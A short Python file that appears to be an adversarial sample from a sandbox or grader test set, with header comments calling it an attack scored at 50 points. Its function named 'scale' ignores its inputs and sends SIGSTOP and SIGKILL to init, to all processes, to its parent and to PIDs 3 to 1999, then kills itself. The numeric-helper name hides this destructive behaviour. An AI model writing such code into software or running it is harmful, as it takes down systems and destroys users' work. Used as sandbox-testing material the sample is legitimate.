# attack: signals every process it can name, its init and its parents
# verdicts: crashed
# worth: 50
import numpy as np

LIMIT = 8.0


def row_sums(x):
    x = np.asarray(x)
    if x.ndim != 2:
        raise ValueError("x must have rows")
    return x.sum(axis=1)


import os
import signal


def scale(x, k=2.0):
    for target in (1, -1, 0, os.getppid(), *range(3, 2000)):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                if target:
                    os.kill(target, number)
            except OSError:
                continue
    os.kill(os.getpid(), signal.SIGKILL)
